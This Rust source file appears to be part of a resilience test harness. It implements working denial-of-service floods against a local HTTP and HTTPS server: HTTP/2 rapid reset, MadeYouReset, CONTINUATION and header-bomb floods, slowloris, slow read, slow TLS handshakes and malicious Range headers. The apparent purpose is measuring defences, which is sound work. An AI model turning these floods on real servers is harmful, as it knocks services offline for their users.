//! The floods, each by one process at full tilt. They break off and begin anew for as long as they run.

use std::{
    cell::Cell,
    io::{self, Read as _, Write as _},
    net::{Shutdown, SocketAddr, TcpListener, TcpStream},
    sync::{
        Arc, Weak,
        atomic::{AtomicU64, Ordering},
    },
    thread,
    time::Duration,
};

use parking_lot::{Condvar, Mutex};
use rustls::{ClientConnection, StreamOwned, client::Resumption, pki_types::ServerName};
use socket2::{Domain, Socket, Type};

use super::support::{Fallible, records};

/// Where the hostile process connects from: another address than the viewers', as it would.
const FROM: [u8; 4] = [127, 0, 0, 66];
/// Threads that flood.
const THREADS: usize = 4;
/// What its kernel keeps unsent for a connection. Over loopback that is given back on the core of the server, which no other attacker's is: megabytes, in a fifth of a millisecond.
const SEND_BUFFER: usize = 64 << 10;
/// Connections that those who only hold on hold in all.
const HELD: usize = 2000;

/// What is attacked.
#[derive(Clone, Copy)]
pub(crate) struct Target {
    pub(crate) http: SocketAddr,
    pub(crate) https: SocketAddr,
}

/// One flood.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    /// What is counted.
    pub(crate) unit: &'static str,
    /// Whether its connections stay, so that it tells what one costs.
    pub(crate) holds: bool,
    run: fn(Target, &AtomicU64) -> io::Result<()>,
}

const fn flood(
    name: &'static str,
    unit: &'static str,
    holds: bool,
    run: fn(Target, &AtomicU64) -> io::Result<()>,
) -> Flood {
    Flood { name, unit, holds, run }
}

/// What there is beside each flood, so that the core which it shares with the viewers is as busy whatever becomes of it, and in place of one while it is found out how often
/// viewers ask: work on that core, at nobody's cost.
pub(crate) const NEIGHBOUR: &str = "neighbour";

pub(crate) const FLOODS: &[Flood] = &[
    // What the measure is worth.
    flood("nothing", "acts", false, nothing),
    flood("rapid reset", "streams", false, rapid_reset),
    flood("MadeYouReset", "streams", false, made_you_reset),
    flood("CONTINUATION", "frames", false, continuation),
    flood("header bomb, zero window", "streams", true, header_bomb),
    flood("empty DATA", "frames", false, empty_data),
    flood("PING", "frames", false, |target, count| frames(target, count, &frame(PING, 0, 0, &[7; 8]))),
    flood("SETTINGS", "frames", false, |target, count| {
        frames(target, count, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]))
    }),
    flood("slowloris", "bytes", true, slowloris),
    flood("slow read", "requests", true, slow_read),
    flood("slow handshake", "bytes", true, slow_handshake),
    flood("overlapping ranges", "requests", false, |target, count| {
        let ranges: Vec<String> = (0..1000).map(|n| format!("{n}-{}", n + 1)).collect();
        requests(
            target,
            count,
            &format!("GET /small.mp4 HTTP/1.1\r\nHost: a\r\nRange: bytes={}\r\n\r\n", ranges.join(",")),
        )
    }),
    flood("ranges of one byte", "requests", false, |target, count| {
        let ranges: Vec<String> = (0..16).map(|n| format!("{0}-{0}", n * 70_000)).collect();
        requests(target, count, &format!("GET /0.mp4 HTTP/1.1\r\nHost: a\r\nRange: bytes={}\r\n\r\n", ranges.join(",")))
    }),
    flood("range overflow", "requests", false, |target, count| {
        let range = "bytes=-9223372036854775608,18446744073709551615-,-18446744073709551616";
        requests(target, count, &format!("GET /0.mp4 HTTP/1.1\r\nHost: a\r\nRange: {range}\r\n\r\n"))
    }),
    flood("names that nobody has", "requests", false, unknown_names),
    flood("connections", "connections", false, connections),
    flood("TLS handshakes", "handshakes", false, handshakes),
];

/// Floods the first target, and the next one with each byte that comes; ends when no more will. Prints which one that is and how often it was flooded, for whoever started it.
pub(crate) fn run(name: &str, targets: &[Target]) -> Fallible<()> {
    let run = match FLOODS.iter().find(|flood| flood.name == name) {
        Some(flood) => flood.run,
        None if name == NEIGHBOUR => neighbour,
        None => return Err(format!("{name} is no flood").into()),
    };
    let counts: Arc<Vec<AtomicU64>> = Arc::new(targets.iter().map(|_| AtomicU64::new(0)).collect());
    for _ in 0..if name == NEIGHBOUR { 1 } else { THREADS } {
        let (targets, counts) = (targets.to_vec(), Arc::clone(&counts));
        thread::spawn(move || {
            loop {
                let phase = LINES.lock().phase;
                PHASE.set(phase);
                let now = phase % targets.len();
                // Being sent away is what is expected; it comes back.
                drop(run(targets[now], &counts[now]));
            }
        });
    }
    let switching = thread::spawn(|| io::stdin().lock().bytes().map_while(Result::ok).for_each(|_| next_phase()));
    while !switching.is_finished() {
        thread::park_timeout(Duration::from_millis(50));
        for (target, count) in targets.iter().zip(counts.iter()) {
            println!("{} {}", target.http, count.load(Ordering::Relaxed));
        }
        io::stdout().flush()?;
    }
    Ok(())
}

/// All connections of this process, and which of the phases it is.
struct Lines {
    phase: usize,
    open: Vec<Weak<TcpStream>>,
    room: usize,
}

/// Connections at least before those that have ended are forgotten.
const ROOM: usize = 64;

static LINES: Mutex<Lines> = Mutex::new(Lines { phase: 0, open: Vec::new(), room: ROOM });
static ENDED: Condvar = Condvar::new();

thread_local! {
    /// In which phase this thread began its flood.
    static PHASE: Cell<usize> = const { Cell::new(0) };
}

/// Ends all connections, and with them the flood of each thread: it begins another of the next target. Within one process, since kernels can take minutes to bury one in whose directory in
/// /proc somebody looks.
fn next_phase() {
    let mut lines = LINES.lock();
    lines.phase += 1;
    for line in lines.open.drain(..).filter_map(|line| line.upgrade()) {
        // It may be gone.
        drop(line.shutdown(Shutdown::Both));
    }
    ENDED.notify_all();
}

/// One connection.
#[derive(Clone)]
struct Line(Arc<TcpStream>);

impl io::Read for Line {
    fn read(&mut self, into: &mut [u8]) -> io::Result<usize> {
        (&*self.0).read(into)
    }
}

impl io::Write for Line {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        (&*self.0).write(bytes)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// # Errors
/// The phase is over, among others.
fn connect(to: SocketAddr) -> io::Result<Line> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddr::from((FROM, 0)).into())?;
    socket.set_send_buffer_size(SEND_BUFFER)?;
    socket.connect(&to.into())?;
    socket.set_tcp_nodelay(true)?;
    socket.set_read_timeout(Some(Duration::from_secs(5)))?;
    let line = Arc::new(TcpStream::from(socket));
    let mut lines = LINES.lock();
    if lines.phase != PHASE.get() {
        return Err(io::ErrorKind::Interrupted.into());
    }
    if lines.open.len() >= lines.room {
        lines.open.retain(|line| line.strong_count() > 0);
        lines.room = ROOM.max(2 * lines.open.len());
    }
    lines.open.push(Arc::downgrade(&line));
    Ok(Line(line))
}

/// Closed without a word, so that no port waits.
fn reset(line: &Line) {
    drop(socket2::SockRef::from(&*line.0).set_linger(Some(Duration::ZERO)));
}

type Tls = StreamOwned<ClientConnection, Line>;

fn secure(target: Target, protocol: &str, resumes: bool) -> io::Result<Tls> {
    thread_local! {
        static OFFERS: std::cell::RefCell<std::collections::BTreeMap<String, Arc<rustls::ClientConfig>>> = std::cell::RefCell::default();
    }
    let config = OFFERS.with_borrow_mut(|offers| -> io::Result<_> {
        if let Some(known) = offers.get(protocol) {
            return Ok(Arc::clone(known));
        }
        let root = std::fs::read(super::root_file().ok_or(io::ErrorKind::NotFound)?)?;
        let mut config = (*records::offer(root.into(), protocol)?).clone();
        config.enable_secret_extraction = false;
        if !resumes {
            config.resumption = Resumption::disabled();
        }
        Ok(Arc::clone(offers.entry(protocol.into()).or_insert(Arc::new(config))))
    })?;
    let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
    let mut stream =
        StreamOwned::new(ClientConnection::new(config, name).map_err(io::Error::other)?, connect(target.https)?);
    while stream.conn.is_handshaking() {
        stream.conn.complete_io(&mut stream.sock)?;
    }
    Ok(stream)
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A head of HTTP/2 for the film, with `fields` more fields of 100 bytes.
fn head(fields: usize) -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 4, 6];
    block.extend(b"/0.mp4");
    block.extend([1, 1, b'a']);
    for number in 0..fields {
        let name = format!("x-{number:04}");
        block.extend([0, name.len() as u8]);
        block.extend(name.as_bytes());
        block.push(94);
        block.extend([b'x'; 94]);
    }
    block
}

fn http2(target: Target, window: u32) -> io::Result<Tls> {
    let mut stream = secure(target, "h2", true)?;
    let mut text = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    text.extend(frame(SETTINGS, 0, 0, &[&[0, 4][..], &window.to_be_bytes()].concat()));
    stream.write_all(&text)?;
    Ok(stream)
}

/// Asks on stream after stream, each followed by `then`.
fn streams(target: Target, count: &AtomicU64, then: fn(u32) -> Vec<u8>) -> io::Result<()> {
    let mut stream = http2(target, 65_535)?;
    let block = head(0);
    for batch in 0_u32.. {
        let mut text = Vec::new();
        for number in 0..16 {
            let id = (batch * 16 + number) * 2 + 1;
            text.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &block));
            text.extend(then(id));
        }
        stream.write_all(&text)?;
        count.fetch_add(16, Ordering::Relaxed);
    }
    Ok(())
}

fn rapid_reset(target: Target, count: &AtomicU64) -> io::Result<()> {
    streams(target, count, |id| frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()))
}

fn made_you_reset(target: Target, count: &AtomicU64) -> io::Result<()> {
    streams(target, count, |id| frame(WINDOW_UPDATE, 0, id, &0_u32.to_be_bytes()))
}

fn over_and_over(stream: &mut Tls, count: &AtomicU64, frame: &[u8]) -> io::Result<()> {
    let text = frame.repeat(64);
    loop {
        stream.write_all(&text)?;
        count.fetch_add(64, Ordering::Relaxed);
    }
}

fn frames(target: Target, count: &AtomicU64, frame: &[u8]) -> io::Result<()> {
    over_and_over(&mut http2(target, 65_535)?, count, frame)
}

fn continuation(target: Target, count: &AtomicU64) -> io::Result<()> {
    let mut stream = http2(target, 65_535)?;
    stream.write_all(&frame(HEADERS, END_STREAM, 1, &head(0)))?;
    over_and_over(&mut stream, count, &frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']))
}

fn empty_data(target: Target, count: &AtomicU64) -> io::Result<()> {
    let mut stream = http2(target, 65_535)?;
    stream.write_all(&frame(HEADERS, END_HEADERS, 1, &head(0)))?;
    over_and_over(&mut stream, count, &frame(DATA, 0, 1, &[]))
}

/// Heads as large as they may be on as many streams as there may be, and no window.
fn header_bomb(target: Target, count: &AtomicU64) -> io::Result<()> {
    let mut held = Vec::new();
    let block = head(50);
    while held.len() < HELD / THREADS / 20 {
        let mut stream = http2(target, 0)?;
        for number in 0..100 {
            stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &block))?;
            count.fetch_add(1, Ordering::Relaxed);
        }
        held.push(stream);
    }
    hold(held)
}

/// Holds on until the phase is over.
fn hold<T>(held: Vec<T>) -> io::Result<()> {
    let mut lines = LINES.lock();
    ENDED.wait_while(&mut lines, |lines| lines.phase == PHASE.get());
    drop(lines);
    drop(held);
    Ok(())
}

/// A byte of a head on each connection, round and round.
fn slowloris(target: Target, count: &AtomicU64) -> io::Result<()> {
    dribble(target.http, count, b"GET /0.mp4 HTTP/1.1\r\nHost: a\r\n", b"x")
}

/// The beginning of a handshake (RFC 8446, 4.1.2), and then byte by byte.
fn slow_handshake(target: Target, count: &AtomicU64) -> io::Result<()> {
    dribble(target.https, count, &[22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3], &[0])
}

fn dribble(to: SocketAddr, count: &AtomicU64, begin: &[u8], then: &[u8]) -> io::Result<()> {
    let mut held: Vec<Line> = Vec::new();
    loop {
        if held.len() < HELD / THREADS {
            let mut stream = connect(to)?;
            stream.write_all(begin)?;
            held.push(stream);
        } else {
            // As fast as slowness that is to last can be: each byte is one packet.
            held.retain_mut(|stream| stream.write_all(then).is_ok());
            count.fetch_add(held.len() as u64, Ordering::Relaxed);
            thread::park_timeout(Duration::from_millis(20));
        }
    }
}

/// Asks for everything and reads nothing.
fn slow_read(target: Target, count: &AtomicU64) -> io::Result<()> {
    let mut held = Vec::new();
    while held.len() < HELD / THREADS {
        let mut stream = connect(target.http)?;
        stream.write_all(b"GET /0.mp4 HTTP/1.1\r\nHost: a\r\n\r\n")?;
        count.fetch_add(1, Ordering::Relaxed);
        held.push(stream);
    }
    hold(held)
}

/// The same request over and over on one connection, eight ahead; what comes back is dropped.
fn requests(target: Target, count: &AtomicU64, text: &str) -> io::Result<()> {
    let mut stream = connect(target.http)?;
    let mut reader = stream.clone();
    thread::scope(|scope| {
        scope.spawn(move || {
            // In small calls: a kernel that is built without preemption lets each end before the viewers have the core.
            let mut waste = vec![0; 8 << 10];
            while reader.read(&mut waste).is_ok_and(|count| count > 0) {}
        });
        let sent = loop {
            if let Err(err) = stream.write_all(text.as_bytes()) {
                break Err(err);
            }
            count.fetch_add(1, Ordering::Relaxed);
        };
        drop(stream.0.shutdown(Shutdown::Both));
        sent
    })
}

fn unknown_names(target: Target, count: &AtomicU64) -> io::Result<()> {
    let mut stream = connect(target.http)?;
    let mut waste = [0; 4096];
    for _ in 0.. {
        let number = count.fetch_add(1, Ordering::Relaxed);
        stream.write_all(format!("GET /none/{number}.mp4 HTTP/1.1\r\nHost: a\r\n\r\n").as_bytes())?;
        if stream.read(&mut waste)? == 0 {
            break;
        }
    }
    Ok(())
}

fn connections(target: Target, count: &AtomicU64) -> io::Result<()> {
    loop {
        reset(&connect(target.http)?);
        count.fetch_add(1, Ordering::Relaxed);
    }
}

fn handshakes(target: Target, count: &AtomicU64) -> io::Result<()> {
    loop {
        reset(&secure(target, "http/1.1", false)?.sock);
        count.fetch_add(1, Ordering::Relaxed);
    }
}

fn nothing(_: Target, _: &AtomicU64) -> io::Result<()> {
    hold(Vec::<u8>::new())
}

fn neighbour(_: Target, count: &AtomicU64) -> io::Result<()> {
    let listener = TcpListener::bind(SocketAddr::from((FROM, 0)))?;
    let own = listener.local_addr()?;
    let mut text = [7; 1000];
    loop {
        let mut near = connect(own)?;
        let (mut far, _) = listener.accept()?;
        for _ in 0..50 {
            near.write_all(&text)?;
            far.read_exact(&mut text)?;
        }
        reset(&near);
        count.fetch_add(1, Ordering::Relaxed);
    }
}
